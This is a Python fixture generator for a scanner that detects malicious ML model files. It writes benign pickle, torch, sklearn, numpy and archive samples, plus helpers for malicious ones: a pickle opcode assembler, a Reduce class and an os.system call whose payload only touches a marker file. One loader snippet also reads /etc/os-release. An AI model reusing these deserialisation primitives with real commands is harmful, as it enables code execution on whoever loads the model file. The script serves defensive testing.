#!/usr/bin/python3
"""Generate modelgate's benign and malicious model-file fixtures.

Run from the repository root with Debian's interpreter (python3-torch, -numpy, -sklearn,
-joblib, -dill, -cloudpickle installed; no PyPI):

    /usr/bin/python3 test/gen_fixtures.py

Writes test/fixtures/benign/, test/fixtures/malicious/ (+ malicious/unproven/) and
test/fixtures/manifest.json (one entry per file, sorted by path):

    {"file": "malicious/posix_system_reduce_p2.pkl", "label": "malicious", "format": "pickle",
     "technique": "...", "catalogue": "3.1.4", "loader": "pickle.load", "proven": true,
     "notes": "..."}

Catalogue ids refer to /work/shared/reference/threats-and-peers.md: "3.<subsection>.<item>"
with the item number as printed in section 3 (items are numbered 1..35 across 3.1-3.3),
e.g. "3.2.18" = FRAME straddling. "2" = a global from the section-2 deny lists used plainly.
Benign files use "4" when they exercise a known false-positive pattern, else "".

Safety: every payload only creates (touches/opens for append) a marker file, never network,
never deletes. Shell payloads run  touch "${MODELGATE_MARKER:-/tmp/modelgate-marker}"  and
Python payloads open os.environ.get('MODELGATE_MARKER', '/tmp/modelgate-marker') for append.
Gadgets whose argument cannot read the environment (logging.FileHandler, _io.FileIO,
builtins.open, shutil.copy, uuid._get_command_stdout, ...) have the RELATIVE path
"modelgate-marker" baked in, i.e. they create ./modelgate-marker in the loader's cwd.

Proof: a malicious fixture is only kept with "proven": true after the generator loaded it with
the real loader in a throw-away subprocess (cwd = fresh temp dir, MODELGATE_MARKER = a fresh
temp path) and saw the marker appear. Fixtures no real installed loader executes are written
to malicious/unproven/ with "proven": false (they are still required detections). Benign
files are loaded by their real loader in a subprocess and must load without error and without
creating a marker ("proven": true = verified to load cleanly).

Determinism: fixed seeds, fixed zip/tar timestamps, gzip mtime 0. Known residual
non-determinism: joblib's gzip header mtime, 7z archive metadata.

The allowlist harvest lives in test/harvest_globals.py.
"""
import bz2
import collections
import datetime
import decimal
import functools
import gzip
import io
import json
import lzma
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import warnings
import zipfile
import zlib

warnings.filterwarnings('ignore')

HERE = os.path.dirname(os.path.abspath(__file__))
FIX = os.path.join(HERE, 'fixtures')
BENIGN = os.path.join(FIX, 'benign')
MAL = os.path.join(FIX, 'malicious')
UNPROVEN = os.path.join(MAL, 'unproven')

SHELL_CMD = 'touch "${MODELGATE_MARKER:-/tmp/modelgate-marker}"'
PY_CODE = "open(__import__('os').environ.get('MODELGATE_MARKER','/tmp/modelgate-marker'),'a').close()"
PY_EXPR = "open(__import__('os').environ.get('MODELGATE_MARKER','/tmp/modelgate-marker'),'a').close()"
BAKED = 'modelgate-marker'  # relative: created in the loader's cwd

MANIFEST = []
SKIPPED = []  # (name, reason) for the summary


def _mg_payload_function():
    """Defined in __main__, so cloudpickle/dill serialise it by value."""
    import os as _os
    open(_os.environ.get('MODELGATE_MARKER', '/tmp/modelgate-marker'), 'a').close()
    return 0


class Reduce:
    """Object whose unpickling calls fn(*args)."""

    def __init__(self, fn, args=()):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


# --------------------------------------------------------------------------------------
# tiny pickle assembler for hand-built opcode streams
# --------------------------------------------------------------------------------------
class G:
    """Reference to a global: STACK_GLOBAL (proto >= 4) or GLOBAL."""

    def __init__(self, module, name, style=None):
        self.module, self.name, self.style = module, name, style


class Call:
    def __init__(self, fn, *args):
        self.fn, self.args = fn, args


class NewObj:
    def __init__(self, cls, args, kwargs=None):
        self.cls, self.args, self.kwargs = cls, args, kwargs


class Raw:
    def __init__(self, b):
        self.b = b


def _str(s, proto):
    b = s.encode('utf-8')
    if proto >= 4 and len(b) < 256:
        return b'\x8c' + bytes([len(b)]) + b
    if proto >= 1:
        return b'X' + struct.pack('<I', len(b)) + b
    return b'V' + s.encode('raw_unicode_escape') + b'\n'


def emit(x, proto):
    if isinstance(x, Raw):
        return x.b
    if isinstance(x, G):
        style = x.style or ('stack' if proto >= 4 else 'global')
        if style == 'stack':
            return _str(x.module, proto) + _str(x.name, proto) + b'\x93'
        return b'c' + x.module.encode() + b'\n' + x.name.encode() + b'\n'
    if isinstance(x, Call):
        return emit(x.fn, proto) + emit(tuple(x.args), proto) + b'R'
    if isinstance(x, NewObj):
        if x.kwargs is None:
            return emit(x.cls, proto) + emit(tuple(x.args), proto) + b'\x81'
        return emit(x.cls, proto) + emit(tuple(x.args), proto) + emit(dict(x.kwargs), proto) + b'\x92'
    if x is None:
        return b'N'
    if x is True or x is False:
        return (b'\x88' if x else b'\x89') if proto >= 2 else (b'I01\n' if x else b'I00\n')
    if isinstance(x, int):
        if proto >= 1 and 0 <= x < 256:
            return b'K' + bytes([x])
        if proto >= 1 and -2**31 <= x < 2**31:
            return b'J' + struct.pack('<i', x)
        return b'I%d\n' % x
    if isinstance(x, str):
        return _str(x, proto)
    if isinstance(x, bytes):
        if proto >= 3:
            if len(x) < 256:
                return b'C' + bytes([len(x)]) + x
            return b'B' + struct.pack('<I', len(x)) + x
        raise ValueError('bytes need protocol >= 3')
    if isinstance(x, tuple):
        if not x:
            return b')'
        return b'(' + b''.join(emit(i, proto) for i in x) + b't'
    if isinstance(x, list):
        return b'(' + b''.join(emit(i, proto) for i in x) + b'l'
    if isinstance(x, dict):
        return b'(' + b''.join(emit(k, proto) + emit(v, proto) for k, v in x.items()) + b'd'
    raise TypeError(type(x))


def asm(expr, proto=4):
    head = b'\x80' + bytes([proto]) if proto >= 2 else b''
    return head + emit(expr, proto) + b'.'


def sh_call():
    return Call(G('os', 'system'), SHELL_CMD)


# --------------------------------------------------------------------------------------
# output helpers, proof harness
# --------------------------------------------------------------------------------------
LOADERS = {
    'pickle.load': "import pickle\nwith open(FILE,'rb') as f: pickle.load(f)",
    'pickle.load (repeated until EOF)':
        "import pickle\nwith open(FILE,'rb') as f:\n"
        " while True:\n  try: pickle.load(f)\n  except EOFError: break",
    'torch.load': "import torch\ntorch.load(FILE, weights_only=False)",
    'torch.jit.load': "import torch\ntorch.jit.load(FILE)",
    'joblib.load': "import joblib\njoblib.load(FILE)",
    'dill.load': "import dill\nwith open(FILE,'rb') as f: dill.load(f)",
    'numpy.load': "import numpy\nnumpy.load(FILE, allow_pickle=True)",
    'numpy.load (npz, every member)':
        "import numpy\nd = numpy.load(FILE, allow_pickle=True)\nfor k in d.files: d[k]",
    '7z x + pickle.load':
        "import subprocess, pickle, os\nsubprocess.run(['7z','x','-y','-oext',FILE],check=True,"
        "stdout=subprocess.DEVNULL)\nfor root,_,fs in os.walk('ext'):\n for n in sorted(fs):\n"
        "  p=os.path.join(root,n)\n  if n.endswith('.pkl'):\n   try: pickle.load(open(p,'rb'))\n"
        "   except Exception as e: print(e)",
    'zipfile extract + torch.load':
        "import zipfile, torch\nz=zipfile.ZipFile(FILE)\nfor n in z.namelist():\n"
        " p=z.extract(n,'ext')\n if n.endswith('.pt'): torch.load(p, weights_only=False)",
    'zipfile.open + pickle.load':
        "import zipfile, pickle\nz=zipfile.ZipFile(FILE)\nfor n in z.namelist():\n"
        " if n.endswith('.pkl'): pickle.load(z.open(n))",
    'zipfile.open(pwd=b"infected") + pickle.load':
        "import zipfile, pickle\nz=zipfile.ZipFile(FILE)\nfor n in z.namelist():\n"
        " if n.endswith('.pkl'): pickle.load(z.open(n, pwd=b'infected'))",
    'tarfile.extractfile + pickle.load':
        "import tarfile, pickle\nt=tarfile.open(FILE)\nfor m in t.getmembers():\n"
        " if m.name.endswith('.pkl'): pickle.load(t.extractfile(m))",
    'tarfile.extractall': "import tarfile\ntarfile.open(FILE).extractall('ext/model')",
    'gzip.open + pickle.load': "import gzip, pickle\npickle.load(gzip.open(FILE))",
    'onnx.load': "import onnx, os\nm = onnx.load(FILE)\nsecret = open('/etc/os-release','rb').read()\n"
        "# proof only: the marker records that onnx.load pulled a file from outside the model dir\n"
        "if any(t.raw_data == secret for t in m.graph.initializer):\n"
        " open(os.environ['MODELGATE_MARKER'],'a').close()",
    'torch.load (then nn.Linear forward)':
        "import torch\ntorch.load(FILE, weights_only=False)\n"
        "torch.nn.Linear(2, 2)(torch.zeros(1, 2))",
}


def _run_loader(path, loader, extra_env=None, timeout=120):
    code = 'FILE = %r\n' % os.path.abspath(path) + LOADERS[loader]
    with tempfile.TemporaryDirectory(prefix='mg-proof-') as td:
        marker = os.path.join(td, 'marker-from-env')
        env = dict(os.environ, MODELGATE_MARKER=marker)
        env.pop('PYTHONPATH', None)
        if extra_env:
            env.update(extra_env)
        try:
            r = subprocess.run([sys.executable, '-c', code], cwd=td, env=env, timeout=timeout,
                               stdin=subprocess.DEVNULL, capture_output=True, text=True)
            rc, err = r.returncode, r.stderr.strip().splitlines()[-1:] if r.stderr else []
        except subprocess.TimeoutExpired:
            rc, err = 'timeout', []
        hit = False
        for _ in range(30):  # Popen-style payloads finish after the loader exits
            if os.path.exists(marker) or os.path.exists(os.path.join(td, BAKED)):
                hit = True
                break
            time.sleep(0.1)
        return hit, rc, err


def _entry(rel, label, fmt, technique, catalogue, loader, proven, notes=None):
    e = {"file": rel, "label": label, "format": fmt, "technique": technique,
         "catalogue": catalogue, "loader": loader, "proven": proven}
    if notes:
        e["notes"] = notes
    MANIFEST.append(e)


def write_benign(name, data, fmt, technique, loader, catalogue='', notes=None):
    path = os.path.join(BENIGN, name)
    with open(path, 'wb') as f:
        f.write(data)
    _entry('benign/' + name, 'benign', fmt, technique, catalogue, loader, False, notes)


def write_malicious(name, data, fmt, technique, catalogue, loader, notes=None,
                    allow_unproven=False, unproven_reason=None, cand_dirs=()):
    """Prove `data` with `loader`; keep it only if proven (or in unproven/ if allowed)."""
    final = os.path.join(MAL, name)
    with tempfile.TemporaryDirectory(prefix='mg-cand-') as td:
        cand = os.path.join(td, name)
        for d in cand_dirs:  # mirror directories that exist next to the final fixture
            os.makedirs(os.path.join(td, d), exist_ok=True)
        with open(cand, 'wb') as f:
            f.write(data)
        hit, rc, err = (False, None, ['no real loader']) if loader is None else _run_loader(cand, loader)
    if hit:
        with open(final, 'wb') as f:
            f.write(data)
        _entry('malicious/' + name, 'malicious', fmt, technique, catalogue, loader, True, notes)
        print('  proven   %-55s (loader rc=%s)' % (name, rc))
        return True
    if allow_unproven:
        with open(os.path.join(UNPROVEN, name), 'wb') as f:
            f.write(data)
        why = unproven_reason or 'loader did not create the marker: rc=%s %s' % (rc, err)
        _entry('malicious/unproven/' + name, 'malicious', fmt, technique, catalogue,
               loader or 'none', False, (notes + ' | ' if notes else '') + 'UNPROVEN: ' + why)
        print('  UNPROVEN %-55s %s' % (name, why))
        return False
    SKIPPED.append((name, 'not proven: rc=%s %s' % (rc, err)))
    print('  SKIPPED  %-55s not proven: rc=%s %s' % (name, rc, err))
    return False


def zip_bytes(entries, compression=zipfile.ZIP_STORED, prefix=b''):
    bio = io.BytesIO()
    bio.write(prefix)
    with zipfile.ZipFile(bio, 'w', compression) as z:
        for name, data in entries:
            zi = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            zi.compress_type = compression
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return bio.getvalue()


def zipcrypto_zip(name, data, pwd):
    """One stored member encrypted with traditional PKWARE ZipCrypto, with a fixed (not random)
    12-byte encryption header so the output is reproducible."""
    table = []
    for i in range(256):
        c = i
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        table.append(c)
    keys = [0x12345678, 0x23456789, 0x34567890]

    def upd(b):
        keys[0] = (keys[0] >> 8) ^ table[(keys[0] ^ b) & 0xff]
        keys[1] = ((keys[1] + (keys[0] & 0xff)) * 134775813 + 1) & 0xffffffff
        keys[2] = (keys[2] >> 8) ^ table[(keys[2] ^ (keys[1] >> 24)) & 0xff]

    for b in pwd:
        upd(b)
    crc = zlib.crc32(data)
    plain = bytes(range(11)) + bytes([crc >> 24]) + data
    enc = bytearray()
    for p in plain:
        t = keys[2] | 2
        enc.append(p ^ (((t * (t ^ 1)) >> 8) & 0xff))
        upd(p)
    nm = name.encode()
    common = struct.pack('<HHHHHIII', 20, 1, 0, 0, 0x21, crc, len(enc), len(data))
    local = b'PK\x03\x04' + common + struct.pack('<HH', len(nm), 0) + nm + bytes(enc)
    central = (b'PK\x01\x02' + struct.pack('<H', 20) + common +
               struct.pack('<HHHHHII', len(nm), 0, 0, 0, 0, 0o644 << 16, 0) + nm)
    eocd = b'PK\x05\x06' + struct.pack('<HHHHIIH', 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + eocd


def tar_bytes(entries, mode='w'):
    bio = io.BytesIO()
    if mode == 'w:gz':
        raw = io.BytesIO()
        with tarfile.open(fileobj=raw, mode='w', format=tarfile.PAX_FORMAT) as t:
            _tar_add(t, entries)
        with gzip.GzipFile(fileobj=bio, mode='wb', mtime=0) as g:
            g.write(raw.getvalue())
        return bio.getvalue()
    with tarfile.open(fileobj=bio, mode=mode, format=tarfile.PAX_FORMAT) as t:
        _tar_add(t, entries)
    return bio.getvalue()


def _tar_add(t, entries):
    for name, data in entries:
        ti = tarfile.TarInfo(name)
        ti.size, ti.mtime, ti.mode = len(data), 0, 0o644
        ti.uname = ti.gname = 'root'
        t.addfile(ti, io.BytesIO(data))


def sevenzip_bytes(entries):
    with tempfile.TemporaryDirectory(prefix='mg-7z-') as td:
        src = os.path.join(td, 'src')
        for name, data in entries:
            p = os.path.join(src, name)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p, 'wb') as f:
                f.write(data)
            os.utime(p, (315532800, 315532800))
        out = os.path.join(td, 'out.7z')
        subprocess.run(['7z', 'a', '-t7z', '-mtc=off', '-mta=off', '-mtm=off', out] +
                       [n for n, _ in entries], cwd=src, check=True, stdout=subprocess.DEVNULL)
        with open(out, 'rb') as f:
            return f.read()


def gz(data):
    bio = io.BytesIO()
    with gzip.GzipFile(fileobj=bio, mode='wb', mtime=0) as g:
        g.write(data)
    return bio.getvalue()


def torch_bytes(obj, legacy=False):
    import torch
    bio = io.BytesIO()
    torch.save(obj, bio, _use_new_zipfile_serialization=not legacy)
    data = bio.getvalue()
    if legacy:
        data = _normalise_legacy_keys(data)
    return data


def _normalise_legacy_keys(data):
    """Legacy torch files name storages by str(memory address) and order the raw storage
    chunks by that name. Rename them by first use in the main pickle (same string length)
    and re-order the chunks accordingly, so the output is byte-for-byte reproducible."""
    import torch
    sys.dont_write_bytecode = True  # no __pycache__ in the repo
    sys.path.insert(0, os.path.join(HERE, 'differential'))
    import resolved_globals as rg
    (_, _), _, _, (main0, main1), (k0, k1) = split_pickles(data, 5)
    order, elsize = [], {}

    class U(rg.RecordingUnpickler):
        def find_class(self, module, name):
            if module == 'torch' and name.endswith('Storage'):
                return getattr(torch, name)
            return super().find_class(module, name)

        def persistent_load(self, pid):
            if pid[0] == 'storage' and pid[2] not in elsize:
                order.append(pid[2])
                elsize[pid[2]] = torch._utils._element_size(pid[1].dtype)
            return rg._inert()

    U(io.BytesIO(data[main0:main1]), []).load()
    keys = pickle.loads(data[k0:k1])
    if pickle.dumps(keys, protocol=2) != data[k0:k1] or set(keys) != set(order):
        return data  # unexpected layout: leave it alone
    pos, chunks = k1, {}
    for key in keys:
        n = struct.unpack_from('<q', data, pos)[0]
        size = 8 + n * elsize[key]
        chunks[key], pos = data[pos:pos + size], pos + size
    if pos != len(data):
        return data
    rename = {key: str(i + 1) for i, key in enumerate(order)}
    head = data[:main1]
    for key, new in rename.items():
        head = head.replace(b'X' + struct.pack('<I', len(key)) + key.encode(),
                            b'X' + struct.pack('<I', len(new)) + new.encode())
    inv = {v: k for k, v in rename.items()}
    new_keys = sorted(inv)
    return head + pickle.dumps(new_keys, protocol=2) + b''.join(chunks[inv[k]] for k in new_keys)


def joblib_bytes(obj, compress=0):
    import joblib
    with tempfile.TemporaryDirectory(prefix='mg-jl-') as td:
        p = os.path.join(td, 'x.joblib')
        joblib.dump(obj, p, compress=compress)
        with open(p, 'rb') as f:
            return f.read()


def npy_bytes(arr):
    import numpy as np
    bio = io.BytesIO()
    np.save(bio, arr, allow_pickle=True)
    return bio.getvalue()


def npz_bytes(compressed=False, **arrays):
    import numpy as np
    bio = io.BytesIO()
    (np.savez_compressed if compressed else np.savez)(bio, **arrays)
    # numpy writes current timestamps into the zip; re-pack with fixed ones
    src = zipfile.ZipFile(io.BytesIO(bio.getvalue()))
    return zip_bytes([(n, src.read(n)) for n in src.namelist()],
                     zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED)


def zip_members(data):
    """Yield (central_dir_offset, name, local_header_offset) of each zip entry."""
    eocd = data.rfind(b'PK\x05\x06')
    n = struct.unpack_from('<H', data, eocd + 10)[0]
    p = struct.unpack_from('<I', data, eocd + 16)[0]
    out = []
    for _ in range(n):
        assert data[p:p + 4] == b'PK\x01\x02'
        fnl, exl, cml = struct.unpack_from('<HHH', data, p + 28)
        out.append((p, bytes(data[p + 46:p + 46 + fnl]), struct.unpack_from('<I', data, p + 42)[0]))
        p += 46 + fnl + exl + cml
    return out


# --------------------------------------------------------------------------------------
# benign
# --------------------------------------------------------------------------------------
def plain_python_data():
    return {
        'str': 'héllo wörld', 'int': 42, 'neg': -7, 'bigint': 2 ** 100, 'float': 1.5,
        'none': None, 'true': True, 'false': False,
        'list': [1, 2.5, 'x', None, [3, 4]], 'tuple': (1, 'a', (2, 3)), 'empty': ((), [], {}),
        'set': {1, 2, 3}, 'frozenset': frozenset({4, 5}),
        'dict': {'a': 1, 'b': {'c': [1, 2]}},
        'ordereddict': collections.OrderedDict([('z', 1), ('y', 2)]),
        'defaultdict': collections.defaultdict(list, {'k': [1, 2]}),
        'counter': collections.Counter({'a': 2, 'b': 1}),
        'deque': collections.deque([1, 2, 3]),
        'datetime': datetime.datetime(2024, 1, 2, 3, 4, 5, 6),
        'date': datetime.date(2024, 1, 2), 'time': datetime.time(12, 30),
        'timedelta': datetime.timedelta(days=1, seconds=5),
        'decimal': decimal.Decimal('1.25'), 'complex': complex(1, 2),
        'bytes': b'\x00\x01binary\xff', 'bytearray': bytearray(b'abc'),
        'range': range(0, 10, 2), 'slice': slice(1, 5, 2),
    }


def gen_benign():
    import numpy as np
    import torch
    import torch.nn as nn
    print('benign:')
    torch.manual_seed(0)
    np.random.seed(0)

    # ---- plain pickles, every protocol
    data = plain_python_data()
    for p in range(0, 6):
        write_benign('python_data_p%d.pkl' % p, pickle.dumps(data, protocol=p), 'pickle',
                     'plain python data (dict/list/set/OrderedDict/defaultdict/datetime/Decimal/'
                     'complex/bytes/bytearray/range/slice...) protocol %d' % p, 'pickle.load',
                     catalogue='4' if p < 3 else '',
                     notes='protocol <3 encodes bytes via _codecs.encode and uses __builtin__/copy_reg'
                     if p < 3 else None)
    write_benign('functools_partial_int_base2.pkl',
                 pickle.dumps(functools.partial(int, base=2), protocol=4), 'pickle',
                 'functools.partial(int, base=2): partial of a harmless builtin', 'pickle.load',
                 catalogue='4')
    write_benign('getattr_str_split.pkl', pickle.dumps(Reduce(getattr, (str, 'split')), protocol=4),
                 'pickle', 'REDUCE builtins.getattr(str, "split"): harmless getattr call like '
                 'ultralytics/sklearn pickles', 'pickle.load', catalogue='4')
    write_benign('getattr_str_split_p2.pkl', pickle.dumps(Reduce(getattr, (str, 'split')), protocol=2),
                 'pickle', 'REDUCE __builtin__.getattr(str, "split"), protocol 2', 'pickle.load',
                 catalogue='4')
    import dill
    import cloudpickle
    write_benign('dill_plain_data.pkl', dill.dumps(data), 'pickle', 'dill.dumps of plain data',
                 'pickle.load')
    write_benign('cloudpickle_plain_data.pkl', cloudpickle.dumps(data), 'pickle',
                 'cloudpickle.dumps of plain data', 'pickle.load')
    write_benign('python_data_p0.bin', pickle.dumps({'a': [1, 2], 'b': 'text'}, protocol=0),
                 'pickle', 'protocol 0 pickle without PROTO named .bin (benign counterpart of '
                 'CVE-2025-10155)', 'pickle.load')

    # ---- torch
    model = nn.Sequential(nn.Linear(4, 8), nn.BatchNorm1d(8), nn.ReLU(), nn.Dropout(0.1),
                          nn.Linear(8, 2))
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    loss = model(torch.randn(5, 4)).pow(2).mean()
    loss.backward()
    opt.step()
    sched = torch.optim.lr_scheduler.StepLR(opt, step_size=2)
    checkpoint = {'epoch': 3, 'loss': float(loss), 'model_state_dict': model.state_dict(),
                  'optimizer_state_dict': opt.state_dict(), 'scheduler': sched.state_dict(),
                  'config': {'lr': 1e-3, 'layers': [4, 8, 2], 'name': 'tiny'}}
    tensors = {
        'float32': torch.randn(3, 2), 'float64': torch.randn(2, dtype=torch.float64),
        'float16': torch.randn(2).half(), 'bfloat16': torch.randn(2).bfloat16(),
        'int8': torch.tensor([-1, 2], dtype=torch.int8), 'uint8': torch.tensor([1, 2], dtype=torch.uint8),
        'int16': torch.tensor([3], dtype=torch.int16), 'int32': torch.tensor([4], dtype=torch.int32),
        'int64': torch.arange(3), 'bool': torch.tensor([True, False]),
        'complex64': torch.tensor([1 + 2j], dtype=torch.complex64),
        'view': torch.arange(10.)[2:6], 'noncontig': torch.arange(6.).reshape(2, 3).t(),
        'scalar': torch.tensor(3.5), 'empty': torch.empty(0),
        'parameter': nn.Parameter(torch.ones(2)),
        'size': torch.Size([2, 3]), 'device': torch.device('cpu'), 'dtype': torch.float32,
        'sparse_coo': torch.tensor([[0., 1.], [2., 0.]]).to_sparse(),
    }
    try:
        tensors['qint8'] = torch.quantize_per_tensor(torch.tensor([0.5, 1.0]), 0.1, 0, torch.qint8)
    except Exception as e:  # noqa: BLE001
        SKIPPED.append(('quantized tensor', str(e)))
    torch_objs = [
        ('torch_state_dict', model.state_dict(), 'state_dict of Sequential(Linear, BatchNorm1d, ReLU, '
                                                 'Dropout, Linear) incl. int64 num_batches_tracked'),
        ('torch_full_module', model, 'torch.save of a whole nn.Sequential module (torch.nn.modules.* '
                                     'globals, _rebuild_parameter)'),
        ('torch_optimizer_state', opt.state_dict(), 'Adam optimizer state_dict after one step'),
        ('torch_checkpoint_dict', checkpoint, 'training checkpoint dict: epoch, loss, model/optimizer/'
                                              'scheduler state_dicts, config'),
        ('torch_tensor_dtypes', tensors, 'tensors of many dtypes (f32/f64/f16/bf16/i8/u8/i16/i32/i64/bool/'
                                         'c64), views, Parameter, Size, device, dtype, sparse, qint8'),
        ('torch_single_tensor', torch.arange(4, dtype=torch.float32), 'a single tensor'),
    ]
    for stem, obj, tech in torch_objs:
        write_benign(stem + '.pt', torch_bytes(obj), 'pytorch-zip', tech + ' (zip format)',
                     'torch.load', catalogue='4')
        write_benign(stem + '_legacy.pt', torch_bytes(obj, legacy=True), 'pytorch-legacy',
                     tech + ' (legacy _use_new_zipfile_serialization=False)', 'torch.load',
                     catalogue='4')
    write_benign('torch_state_dict.bin', torch_bytes(model.state_dict()), 'pytorch-zip',
                 'state_dict saved as pytorch_model.bin-style .bin', 'torch.load')
    scripted = torch.jit.script(nn.Linear(2, 2))
    bio = io.BytesIO()
    torch.jit.save(scripted, bio)
    write_benign('torchscript_linear.pt', bio.getvalue(), 'torchscript-zip',
                 'torch.jit.save of scripted nn.Linear (code/, constants.pkl, data.pkl)',
                 'torch.jit.load')
    try:
        import torchvision  # noqa: F401
        m = torchvision.models.resnet18(num_classes=2)
        write_benign('torchvision_resnet18_state.pt', torch_bytes(m.state_dict()), 'pytorch-zip',
                     'torchvision resnet18 state_dict', 'torch.load')
    except ImportError:
        SKIPPED.append(('torchvision model', 'torchvision not installed'))

    # ---- sklearn
    gen_benign_sklearn()

    # ---- numpy
    rng = np.random.RandomState(0)
    write_benign('numpy_float32.npy', npy_bytes(rng.rand(4, 3).astype(np.float32)), 'npy',
                 'numeric float32 2-D array', 'numpy.load')
    write_benign('numpy_int64_fortran.npy', npy_bytes(np.asfortranarray(np.arange(12).reshape(3, 4))),
                 'npy', 'int64 Fortran-order array', 'numpy.load')
    write_benign('numpy_structured.npy', npy_bytes(np.array([(1, 2.0, b'ab')], dtype=[
        ('a', '<i4'), ('b', '<f8'), ('c', 'S2')])), 'npy', 'structured dtype', 'numpy.load')
    write_benign('numpy_bool_complex.npy', npy_bytes(np.array([1 + 2j, 0], dtype=np.complex64)),
                 'npy', 'complex64 array', 'numpy.load')
    obj = np.empty(5, dtype=object)
    obj[:] = ['text', 7, {'k': [1, 2]}, None, (1.5, 'x')]
    write_benign('numpy_object_plain.npy', npy_bytes(obj), 'npy',
                 'object dtype array holding only plain python data (pickle after the header)',
                 'numpy.load', catalogue='3.3.32')
    write_benign('numpy_savez.npz', npz_bytes(a=np.arange(5), b=rng.rand(2, 2)), 'npz',
                 'np.savez of two numeric arrays', 'numpy.load (npz, every member)')
    write_benign('numpy_savez_compressed.npz', npz_bytes(True, a=np.arange(5), obj=obj), 'npz',
                 'np.savez_compressed incl. a plain-data object array', 'numpy.load (npz, every member)')
    write_benign('numpy_misc.pkl', pickle.dumps({
        'arr': np.arange(3), 'f64': np.float64(1.5), 'i32': np.int32(3), 'dtype': np.dtype('<f4'),
        'bool': np.bool_(True), 'rs': np.random.RandomState(1), 'gen': np.random.default_rng(1),
        'masked': np.ma.masked_array([1, 2], mask=[0, 1])}, protocol=4), 'pickle',
        'numpy arrays, scalars, dtype, RandomState, Generator, masked array (protocol 4)', 'pickle.load',
        catalogue='4')
    write_benign('numpy_misc_p2.pkl', pickle.dumps({'arr': np.arange(3), 'f64': np.float64(1.5)},
                                                   protocol=2), 'pickle',
                 'numpy array + scalar protocol 2 (_codecs.encode for raw bytes)', 'pickle.load',
                 catalogue='4')
    try:
        import pandas as pd
        df = pd.DataFrame({'a': [1, 2], 'b': ['x', 'y'], 'c': pd.Categorical(['u', 'v'])})
        write_benign('pandas_dataframe.pkl', pickle.dumps(df, protocol=4), 'pickle',
                     'pandas DataFrame', 'pickle.load')
    except ImportError:
        SKIPPED.append(('pandas DataFrame pickle', 'pandas not installed'))

    write_benign('onnx_identity.onnx', onnx_model(), 'onnx', 'tiny ONNX Identity model with an inline initializer',
                 'onnx.load')

    # ---- plain archives holding benign pickles
    small = pickle.dumps({'weights': [0.1, 0.2], 'name': 'tiny'}, protocol=4)
    write_benign('pickle_in_zip.zip', zip_bytes([('model/model.pkl', small), ('README.txt', b'hi\n')]),
                 'zip', 'zip holding a benign pickle', 'zipfile.open + pickle.load')
    write_benign('pickle_in_tar.tar.gz', tar_bytes([('model.pkl', small)], 'w:gz'), 'tar',
                 'gzip tar holding a benign pickle', 'tarfile.extractfile + pickle.load')
    write_benign('pickle_in_7z.7z', sevenzip_bytes([('model.pkl', small)]), '7z',
                 '7z archive holding a benign pickle', '7z x + pickle.load')
    write_benign('pickle.pkl.gz', gz(small), 'gzip', 'gzip-compressed benign pickle', 'joblib.load')


def gen_benign_sklearn():
    import joblib  # noqa: F401
    import numpy as np
    from sklearn.cluster import KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.naive_bayes import MultinomialNB
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler
    from sklearn.svm import SVC
    rng = np.random.RandomState(0)
    X = rng.rand(30, 4)
    y = (X[:, 0] > 0.5).astype(int)
    Xc = np.c_[X[:, :2], rng.randint(0, 3, 30)]
    docs = ['good model file', 'bad pickle payload', 'weights and biases', 'safe tensors only',
            'remote code execution', 'tiny test corpus'] * 2
    dy = [0, 1, 0, 0, 1, 0] * 2
    models = {
        'sklearn_logreg': LogisticRegression().fit(X, y),
        'sklearn_random_forest': RandomForestClassifier(n_estimators=3, max_depth=3,
                                                        random_state=0).fit(X, y),
        'sklearn_pipeline_scaler_svc': Pipeline([('scale', StandardScaler()),
                                                 ('svc', SVC(probability=False))]).fit(X, y),
        'sklearn_tfidf_nb': Pipeline([('tfidf', TfidfVectorizer()), ('nb', MultinomialNB())]).fit(docs, dy),
        'sklearn_gradient_boosting': GradientBoostingClassifier(n_estimators=3, max_depth=2,
                                                                random_state=0).fit(X, y),
        'sklearn_kmeans': KMeans(n_clusters=2, n_init=1, random_state=0).fit(X),
        'sklearn_column_transformer': Pipeline([
            ('ct', ColumnTransformer([('num', StandardScaler(), [0, 1]),
                                      ('cat', OneHotEncoder(handle_unknown='ignore'), [2])])),
            ('lr', LogisticRegression())]).fit(Xc, y),
    }
    for stem, m in models.items():
        tech = 'fitted %s' % type(m).__name__ if stem != 'sklearn_tfidf_nb' else \
            'fitted Pipeline(TfidfVectorizer, MultinomialNB) (TfidfVectorizer dumps may use builtins.getattr)'
        write_benign(stem + '.pkl', pickle.dumps(m, protocol=4), 'pickle', tech + ' via pickle', 'pickle.load',
                     catalogue='4')
        write_benign(stem + '.joblib', joblib_bytes(m), 'joblib', tech + ' via joblib.dump', 'joblib.load',
                     catalogue='4')
    write_benign('sklearn_logreg_p2.pkl', pickle.dumps(models['sklearn_logreg'], protocol=2), 'pickle',
                 'fitted LogisticRegression via pickle protocol 2', 'pickle.load', catalogue='4')
    rf = models['sklearn_random_forest']
    for comp in ['zlib', 'gzip', 'bz2', 'lzma', 'xz', 'lz4']:
        try:
            blob = joblib_bytes(rf, compress=(comp, 3))
        except Exception as e:  # noqa: BLE001
            SKIPPED.append(('joblib compress=%s' % comp, str(e)))
            continue
        write_benign('sklearn_random_forest.joblib.%s' % comp, blob, 'joblib-' + comp,
                     'fitted RandomForestClassifier via joblib.dump(compress=(%r, 3))' % comp,
                     'joblib.load', catalogue='4')


def verify_benign():
    """Load every benign fixture with its real loader in one subprocess; no marker allowed."""
    items = [(os.path.join(FIX, e['file']), e['loader']) for e in MANIFEST if e['label'] == 'benign']
    code = ['import json, os, sys, traceback', 'res = {}']
    for path, loader in items:
        body = LOADERS[loader].replace('\n', '\n    ')
